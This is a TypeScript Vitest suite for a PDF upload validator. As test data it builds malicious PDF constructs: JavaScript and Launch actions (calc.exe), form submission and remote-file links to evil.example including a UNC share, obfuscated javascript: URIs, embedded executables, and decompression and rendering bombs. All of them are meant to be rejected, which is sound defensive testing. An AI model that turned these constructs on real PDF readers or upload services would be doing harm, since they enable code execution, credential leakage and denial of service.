// Begins first: fifty files at once, each in a thread of its own.
import { execFileSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { deflateSync } from 'node:zlib';
import { afterAll, afterEach, describe, expect, test, vi } from 'vitest';
import { makePackedPdf, makePdf, nestedForms, pdfStream } from '#api-test/pdf-samples.ts';
import { withAll } from '#api-test/with-all.ts';
import { generalMessages } from '#contract/base/rules.ts';
import { findLibreOffice } from '../../../../scripts/find-tools.mjs';
import { checkPdf } from './pdf.ts';

const folder = mkdtempSync(join(tmpdir(), 'encore-pdf-'));
afterAll(() => rmSync(folder, { recursive: true, force: true }));

const notPdf = 'Please select a valid pdf file';
const protectedPdf = 'This PDF is password-protected';
const heavy = 'This PDF is too complex to show. Please save a simpler version';
const tooManyPages = 'A PDF can have at most 50 pages';
let files = 0;
const pathOf = (content: Buffer | string) => {
  const path = join(folder, `file-${files++}`);
  writeFileSync(path, content);
  return path;
};
const check = (content: Buffer | string) => checkPdf(pathOf(content));

function fromOffice(filter = ''): Buffer {
  const office = findLibreOffice();
  expect(office, 'LibreOffice is needed').toBeTruthy();
  const source = join(folder, 'resume.csv');
  writeFileSync(source, 'Name,Skills\nAsha Rao,"HTML/JS (ES6), /JavaScript and /Launch"\n');
  const profile = `-env:UserInstallation=file://${join(folder, 'office')}`;
  const call = ['--headless', profile, '--convert-to', `pdf:calc_pdf_Export${filter}`, '--outdir', folder, source];
  execFileSync(office ?? '', call, { stdio: 'ignore', timeout: 120_000 });
  return readFileSync(join(folder, 'resume.pdf'));
}
const option = (name: string, type: string, value: string) => `"${name}":{"type":"${type}","value":"${value}"}`;
const pageOf = (parent: number) => `<< /Type /Page /Parent ${parent} 0 R /MediaBox [0 0 595 842] >>`;
const manyPages = (count: number, from = 6) => ({
  pages: `<< /Type /Pages /Count ${count} /Kids [${Array.from({ length: count }, (_, index) => `${index + from} 0 R`).join(' ')}] >>`,
  more: Array.from({ length: count }, () => pageOf(2)),
});
const link = (action: string) => `/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 99 99] /A ${action} >>]`;
const zeros = (megabytes: number) => deflateSync(Buffer.alloc(megabytes * 1024 * 1024), { level: 9 });
const flate = '/Filter /FlateDecode';
const script = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>';

describe('accepted files', () => {
  test.runIf(withAll)('a file of LibreOffice', async () => expect(await check(fromOffice())).toBeNull(), 120_000);
  test.each<[string, Buffer]>([
    ['a page', makePdf()],
    ['with its objects in a packed stream', makePackedPdf()],
    ['a link to an address', makePdf({ page: link('<< /S /URI /URI (https://acme.example) >>') })],
    [
      'one whose action is elsewhere in the file',
      makePdf({ page: link('6 0 R'), more: ['<< /S /URI /URI (mailto:asha@mail.example) >>'] }),
    ],
    ['opened at a page', makePdf({ catalog: '/OpenAction [3 0 R /XYZ null null 1]' })],
    ['the same as an action', makePdf({ catalog: '/OpenAction 6 0 R', more: ['<< /S /GoTo /D [3 0 R /Fit] >>'] })],
    ['a heading named like a script', makePdf({ catalog: '/Dests << /JavaScript [3 0 R /Fit] /AA [3 0 R /Fit] >>' })],
    [
      'words that look like a script',
      makePdf({ trailer: '/Info << /Title (/JS \\(1\\) /OpenAction << /S /JavaScript >>) >>' }),
    ],
    [
      'a page in the manner of ReportLab',
      makePdf({ content: pdfStream('Gap@@~>', '/Filter [/ASCII85Decode /FlateDecode]') }),
    ],
    ['fifty pages', makePdf(manyPages(50))],
    ['line ends before the header', Buffer.concat([Buffer.from('\r\n\r\n'), makePdf()])],
    ['what a printer wrote before the header', Buffer.concat([Buffer.from('\x1b%-12345X@PJL JOB\r\n'), makePdf()])],
    ['1,019 bytes before the header', Buffer.concat([Buffer.alloc(1019, 0x20), makePdf()])],
    ['bytes after its end', Buffer.concat([makePdf(), Buffer.alloc(1000)])],
  ])('%s', async (_, content) => expect(await check(content)).toBeNull());
});

describe('files that are not a PDF, or not only one', () => {
  const archive = Buffer.concat([Buffer.from('PK\x03\x04rest of an archive PK\x05\x06'), Buffer.alloc(18)]);
  test.each<[string, Buffer | string]>([
    ['nothing', ''],
    ['an archive', archive],
    ['a page of HTML', '<!doctype html><script>alert(1)</script>%PDF-1.7'],
    ['a header after something else', Buffer.concat([Buffer.from('GIF89a;'), makePdf()])],
    ['an archive after a PDF', Buffer.concat([makePdf(), archive])],
    ['1,020 bytes before the header', Buffer.concat([Buffer.alloc(1020, 0x20), makePdf()])],
    ['a page of HTML before the header', Buffer.concat([Buffer.from('hello <script>alert(1)</script>'), makePdf()])],
    ['a picture before the header', Buffer.concat([Buffer.from('\x89PNG\r\n\x1a\n\0\0\0\rIHDR', 'latin1'), makePdf()])],
    ['1,030 bytes after its end', Buffer.concat([makePdf(), Buffer.alloc(1030)])],
    ['a header alone', '%PDF-1.7\n%%EOF\n'],
    ['half of a file', makePdf().subarray(0, 500)],
    [
      'no catalog',
      makePdf({ trailer: '/Root 99 0 R' })
        .toString('latin1')
        .replaceAll('/Catalog', '/Nothing')
        .replaceAll('/Pages', '/Sheets'),
    ],
  ])('%s', async (_, content) => expect(await check(content)).toBe(notPdf));
  test.runIf(withAll).each([
    [
      'a password to open it',
      option('EncryptFile', 'boolean', 'true') + ',' + option('DocumentOpenPassword', 'string', 'secret'),
    ],
    [
      'protection without a password',
      option('RestrictPermissions', 'boolean', 'true') + ',' + option('PermissionPassword', 'string', 'secret'),
    ],
  ])(
    '%s',
    async (_, filter) => {
      const content = fromOffice(`:{${filter}}`);
      expect(content.includes('/Encrypt')).toBe(true);
      expect(await check(content)).toBe(protectedPdf);
    },
    120_000,
  );
});

describe('files that are protected, or draw too much', () => {
  test.each([
    [
      'a password',
      makePdf({ trailer: '/Encrypt << /Filter /Standard /V 2 /R 3 /P -4 /O (a) /U (b) >>' }),
      protectedPdf,
    ],
    // 1.1 kB for which a browser takes 3.5 GB.
    [
      'forms that draw the next one ten times, ten deep',
      makePdf(nestedForms(Array.from({ length: 10 }, () => 10))),
      heavy,
    ],
    ['a page as high as a house', makePdf({ page: '/MediaBox [0 0 595 14401]' }), heavy],
    ['a page as thin as a thread', makePdf({ page: '/MediaBox [0 0 10 510]' }), heavy],
  ])('%s', async (_, content, message) => expect(await check(content)).toBe(message));
});

describe('files that act', () => {
  const acting: [string, Parameters<typeof makePdf>[0]][] = [
    ['a script of the document', { catalog: `/Names << /JavaScript << /Names [(a) ${script}] >> >>` }],
    ['a script when it opens', { catalog: `/OpenAction ${script}` }],
    ['the same elsewhere', { catalog: '/OpenAction 6 0 R', more: [script] }],
    [
      'a script with its kind elsewhere',
      { catalog: '/OpenAction 6 0 R', more: ['<< /S 7 0 R /D [3 0 R /Fit] >>', '/JavaScript'] },
    ],
    ['with its name in escapes', { page: link('<< /S /J#61vaScript /#4aS (x) >>') }],
    ['a script of a page', { page: `/AA << /O ${script} >>` }],
    [
      'a script of a field',
      {
        catalog: '/AcroForm << /Fields [6 0 R] >>',
        more: [`<< /Subtype /Widget /FT /Tx /T (a) /AA << /K ${script} >> >>`],
      },
    ],
    ['a program', { page: link('<< /S /Launch /F (calc.exe) >>') }],
    ['a program when it opens', { catalog: '/OpenAction << /S /Launch /F (calc.exe) >>' }],
    ['a form that is sent', { page: link('<< /S /SubmitForm /F (https://evil.example) >>') }],
    ['data that is imported', { page: link('<< /S /ImportData /F (a.fdf) >>') }],
    ['another file', { page: link('<< /S /GoToR /F (\\\\\\\\evil.example\\\\share) /D [0 /Fit] >>') }],
    ['an address when it opens', { catalog: '/OpenAction << /S /URI /URI (https://evil.example) >>' }],
    ['an address when a page opens', { page: '/AA << /O << /S /URI /URI (https://evil.example) >> >>' }],
    [
      'an address of a field',
      { page: '/Annots [<< /Subtype /Widget /A << /S /URI /URI (https://evil.example) >> >>]' },
    ],
    [
      'a print command behind a place',
      { page: link('<< /S /GoTo /D [3 0 R /Fit] /Next << /S /Named /N /Print >> >>') },
    ],
    ['a script as an address', { page: link('<< /S /URI /URI (java\\163cript:alert\\(1\\)) >>') }],
    [
      'a file within it',
      { catalog: '/Names << /EmbeddedFiles << /Names [(a) 6 0 R] >> >>', more: ['<< /Type /Filespec /F (a.exe) >>'] },
    ],
    ['a file at a page', { page: '/Annots [<< /Subtype /FileAttachment /FS << /F (a) /EF << /F 4 0 R >> >> >>]' }],
    ['a film', { page: '/Annots [<< /Subtype /RichMedia /RichMediaContent << >> >>]' }],
    ['a form of XFA', { catalog: '/AcroForm << /Fields [] /XFA [(template) 4 0 R] >>' }],
  ];
  test.each(acting)('%s', async (_, parts) => expect(await check(makePdf(parts))).toBe(notPdf));
  test.runIf(withAll).each(acting)('%s, compressed', async (_, parts) =>
    expect(await check(makePackedPdf(parts))).toBe(notPdf),
  );
  test.each<[string, Buffer]>([
    [
      'in a revision that no table names',
      Buffer.from(
        makePdf().toString('latin1').replace('xref', `9 0 obj\n<< /OpenAction ${script} >>\nendobj\nxref`),
        'latin1',
      ),
    ],
    [
      'an object with a comment in its number',
      makePdf({ catalog: '/OpenAction 9 0 R', content: `${pdfStream('')}\nendobj\n9 %\n0 obj ${script}` }),
    ],
    ['within the bytes of a page', makePdf({ content: pdfStream(`9 0 obj ${script} endobj`) })],
    [
      'in objects compressed in another way',
      makePackedPdf({ page: link(script) }, '/DecodeParms << /Predictor 12 /Columns 4 >>'),
    ],
    ['in objects for which readers see two filters', makePackedPdf({ page: link(script) }, '/Filter /ASCIIHexDecode')],
  ])('a script %s', async (_, content) => expect(await check(content)).toBe(notPdf));
});

describe.runIf(withAll)('expensive files', () => {
  test.each<[string, () => Buffer, string]>([
    ['51 pages', () => makePdf(manyPages(51)), tooManyPages],
    ['20,000 pages, packed', () => makePackedPdf(manyPages(20_000)), tooManyPages],
    [
      '100,000 times one page',
      () => makePdf({ pages: `<< /Type /Pages /Count 100000 /Kids [${'3 0 R '.repeat(100_000)}] >>` }),
      tooManyPages,
    ],
    ['pages that contain themselves', () => makePdf({ pages: '<< /Type /Pages /Kids [2 0 R] /Count 1 >>' }), notPdf],
    [
      'nested pages',
      () =>
        makePdf({
          pages: '<< /Type /Pages /Kids [6 0 R] /Count 1 >>',
          more: ['<< /Type /Pages /Kids [2 0 R] /Count 1 >>'],
        }),
      notPdf,
    ],
    ['nested arrays', () => makePdf({ catalog: `/Deep ${'['.repeat(500_000)}` }), notPdf],
    ['a page of 200 MB', () => makePdf({ content: pdfStream(zeros(200), flate) }), notPdf],
    [
      'packed twice',
      () => makePdf({ content: pdfStream(deflateSync(zeros(50)), '/Filter [/FlateDecode /Fl]') }),
      notPdf,
    ],
    [
      'compressed data with a false beginning',
      () =>
        makePdf({
          content: pdfStream(Buffer.concat([Buffer.from('\xf8\x00', 'latin1'), zeros(200).subarray(2)]), flate),
        }),
      notPdf,
    ],
    [
      'many pages of 40 MB',
      () => makePdf({ more: Array.from({ length: 20 }, () => pdfStream(zeros(40), flate)) }),
      notPdf,
    ],
    ['objects of 64 MB', () => makePackedPdf({ catalog: `/X (${' '.repeat(64 * 1024 * 1024)})` }), notPdf],
    ['objects that fill the memory', () => makePackedPdf({ catalog: `/X [${'<<>>'.repeat(3_900_000)}]` }), notPdf],
    ['more values than an ordinary file has', () => makePackedPdf({ catalog: `/X [${'[]'.repeat(500_000)}]` }), notPdf],
    ['objects within objects', () => makePdf({ more: ['(1 0 obj '.repeat(400_000)] }), notPdf],
  ])('%s', async (_, content, expected) => expect(await check(content())).toBe(expected));

  describe('a busy machine', () => {
    afterEach(() => void vi.useRealTimers());
    const after = (milliseconds: number) => {
      vi.useFakeTimers({ toFake: ['setTimeout', 'clearTimeout'] });
      const checked = check(makePdf());
      // In the same turn: the thread has not answered yet.
      vi.advanceTimersByTime(milliseconds);
      return checked;
    };

    test('may take just under a minute: the result is the same as on an idle one', async () =>
      expect(await after(59_999)).toBeNull());

    test('that takes a minute reports the machine, and not the file', async () =>
      expect(after(60_000)).rejects.toMatchObject({ kind: 'unavailable', message: generalMessages.unavailable }));
  });

  test('a stream that claims to be endless ends with the file', async () => {
    const content = makePdf()
      .toString('latin1')
      .replace(/\/Length \d+/, '/Length 9999999999');
    expect([null, notPdf]).toContain(await check(content));
  });

  test('fifty at once: two threads, bounded memory, and the process keeps running meanwhile', async () => {
    const threads = () => Number(/Threads:\s+(\d+)/.exec(readFileSync('/proc/self/status', 'utf8'))?.[1]);
    const kinds = [
      makePdf(),
      makePdf({ content: pdfStream(zeros(200), flate) }),
      makePackedPdf({ catalog: `/X [${'<<>>'.repeat(2_000_000)}]` }),
    ];
    const paths = kinds.map(pathOf);
    const before = { threads: threads(), memory: process.memoryUsage.rss() };
    const most = { threads: 0, memory: 0, pause: 0 };
    let last = performance.now();
    const watch = setInterval(() => {
      most.threads = Math.max(most.threads, threads() - before.threads);
      most.memory = Math.max(most.memory, process.memoryUsage.rss() - before.memory);
      most.pause = Math.max(most.pause, performance.now() - last);
      last = performance.now();
    }, 10);
    const faults = await Promise.all(Array.from({ length: 50 }, (_, index) => checkPdf(paths[index % 3] ?? '')));
    clearInterval(watch);
    expect(faults).toEqual(Array.from({ length: 50 }, (_, index) => (index % 3 ? notPdf : null)));
    expect(most.threads).toBeLessThanOrEqual(6);
    expect(most.memory).toBeLessThan(900 * 1024 * 1024);
    expect(most.pause).toBeLessThan(1000);
  });
});
